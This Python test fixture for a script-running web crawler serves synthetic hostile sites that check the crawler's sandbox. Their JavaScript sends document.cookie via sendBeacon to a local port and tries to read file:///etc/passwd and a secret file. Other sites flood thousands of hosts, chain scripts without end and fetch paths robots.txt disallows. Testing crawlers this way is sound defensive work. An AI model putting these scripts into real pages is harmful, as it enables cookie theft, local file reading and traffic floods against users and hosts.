"""Sites whose scripts attack others, the crawl or its machine: one host for each attack, next to an
ordinary application. All are answered by one server, whose log shows what was done for them.
"""

from __future__ import annotations

import threading
from collections.abc import Mapping
from pathlib import Path

from crawling import HTML, page
from hostile_scripts import COSTLY, HINTS, WAYS_OUT, with_script
from lycosa.synthetic import Response

FLOOD, OWN, PAIR_PAGES, PAIR_EACH = 10_000, 400, 12, 49
DECOY, VICTIM, CLOSED = "decoy.example", "victim.example", "closed.example"
COSTLY_HOSTS = {f"costly-{name.lower().replace(' ', '-')}.example": name for name in COSTLY}
SECRET = "a-secret-of-this-machine"

_JS = [("Content-Type", "text/javascript")]
_PNG = Response(200, [("Content-Type", "image/png")], b"\x89PNG\r\n\x1a\n")
_APP = """<!DOCTYPE html><title>App</title><div id=root></div><script src=/app.js></script>"""
_APP_JS = """fetch('/data.json').then((r) => r.json()).then((found) => {
  root.innerHTML = found.map((each) => `<a href="${each}">a link to ${each}</a>`).join(' ') })"""
# Neither is wanted: what only a browser with a network could send, to a port that takes nothing.
_PAST_REQUESTS = """<link rel=preconnect href=http://127.0.0.1:RAW>
<link rel=dns-prefetch href=//localhost:RAW><p>before</p><script>
new WebSocket('ws://127.0.0.1:RAW/socket');
for (const at of ['stun:127.0.0.1:RAW', 'turn:127.0.0.1:RAW?transport=tcp'])
  try { new RTCPeerConnection({iceServers: [{urls: at, username: 'a', credential: 'a'}]})
    .createDataChannel('a') } catch {}
try { new WebTransport('https://127.0.0.1:RAW') } catch {}
navigator.sendBeacon('http://127.0.0.1:RAW/beacon', document.cookie);
fetch('http://127.0.0.1:RAW/', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0);
const w = new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://127.0.0.1:RAW/w')"])));
</script>"""


class HostileApps:
    """``port`` is that of the server, ``raw_port`` one that nothing may reach; ``file`` has
    ``SECRET``, which no page may read.
    """

    def __init__(self, file: Path, raw_port: int) -> None:
        self.port = 0
        self.agents: set[str] = set()
        self.fields: set[str] = set()
        self._file, self._raw = file, str(raw_port)
        self._lock = threading.Lock()

    def seeds(self) -> list[str]:
        """The front pages."""
        hosts = [*COSTLY_HOSTS, *_PAGES, "app.example"]
        return [f"http://{host}:{self.port}/" for host in hosts]

    def respond(self, url: str, at: float, headers: Mapping[str, str]) -> Response:
        place, _, path = url.removeprefix("http://").partition("/")
        host = place.partition(":")[0]
        with self._lock:
            self.agents.add(headers.get("user-agent", ""))
            self.fields |= headers.keys()
        if path == "robots.txt":
            return self._robots(host)
        if path.endswith(".png"):
            return _PNG
        if path.startswith("chain/"):
            number = int(path[6:].partition(".")[0]) + 1
            body = f"document.body.append(Object.assign(document.createElement('script'), {{src: '/chain/{number}.js'}}))"
            return Response(200, _JS, body.encode())
        if host == "app.example" and path in ("app.js", "data.json"):
            kind = [("Content-Type", "application/json")] if path == "data.json" else _JS
            return Response(200, kind, (_APP_JS if path == "app.js" else '["/found"]').encode())
        if host == "pair.example" and path:
            return self._page(_PAIR.replace("PAGE", path))
        if path == "":
            if host in COSTLY_HOSTS:
                return self._page(COSTLY[COSTLY_HOSTS[host]][0])
            if host in _PAGES:
                return self._page(_PAGES[host])
            if host == "app.example":
                return self._page(_APP)
        return page(text="found by a script") if path == "found" else Response(404, [], b"")

    def _robots(self, host: str) -> Response:
        rules = {"robots.example": "/private/", CLOSED: "/"}
        if host not in rules:
            return Response(404, [], b"")
        body = f"User-agent: *\nDisallow: {rules[host]}\n"
        return Response(200, [("Content-Type", "text/plain")], body.encode())

    def _page(self, text: str) -> Response:
        text = text.replace("RAW", self._raw).replace("PORT", str(self.port))
        return Response(200, [HTML], text.replace("FILE", str(self._file)).encode())


_PAIR = with_script(
    f"for (let i = 0; i < {PAIR_EACH}; i++) new Image().src = 'http://{VICTIM}:PORT/PAGE-' + i + '.png'"
)
_PAGES = {
    "ways.example": with_script(WAYS_OUT.replace("127.0.0.1:PORT", f"{DECOY}:PORT")),
    "hints.example": HINTS.replace("127.0.0.1:PORT", f"{DECOY}:PORT"),
    "past.example": _PAST_REQUESTS,
    "flood.example": with_script(
        f"for (let i = 0; i < {FLOOD / 2:.0f}; i++) {{ new Image().src = 'http://f' + i + '.example:PORT/x.png';"
        "fetch('http://d' + i + '.example:PORT/data').catch(() => 0) }"
    ),
    "strangers.example": with_script(
        "for (let i = 0; i < 200; i++) { new Image().src = 'http://s' + i + '.example:PORT/x.png';"
        "fetch('http://d' + i + '.example:PORT/data').catch(() => 0) }"
    ),
    "own.example": with_script(
        f"for (let i = 0; i < {OWN}; i++) new Image().src = '/i/' + i + '.png'"
    ),
    "chain.example": with_script("") + "<script src=/chain/0.js></script>",
    "robots.example": with_script(
        "fetch('/private/data.json').catch(() => 0); new Image().src = '/private/a.png';"
        f"new Image().src = 'http://{CLOSED}:PORT/a.png'; new Image().src = '/open.png'"
    )
    + "<script src=/private/a.js></script>",
    "query.example": with_script(
        f"new Image().src = 'http://{DECOY}:PORT/q.png?' + 'x'.repeat(300);"
        f"fetch('http://{DECOY}:PORT/q.json', {{headers: {{'x-secret': '1'}}}}).catch(() => 0)"
    ),
    "files.example": with_script(
        "const show = (text) => document.body.append(text);"
        "for (const at of ['file://FILE', 'file:///etc/passwd']) {"
        "fetch(at).then((r) => r.text()).then(show).catch(() => 0);"
        "const x = new XMLHttpRequest(); try { x.open('GET', at); x.onload = () => show(x.responseText);"
        "x.send() } catch {}; const f = document.createElement('iframe'); f.src = at;"
        "document.body.append(f); try { new Worker(at) } catch {}; import(at).catch(() => 0);"
        "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = at; document.body.append(s);"
        "setTimeout(() => { location.href = at }, 200) }"
    )
    + "<iframe src=file://FILE></iframe><object data=file://FILE></object><script src=file://FILE></script>",
    "pair.example": with_script("")
    + "".join(f"<a href=/{number}>{number}</a> " for number in range(PAIR_PAGES)),
}
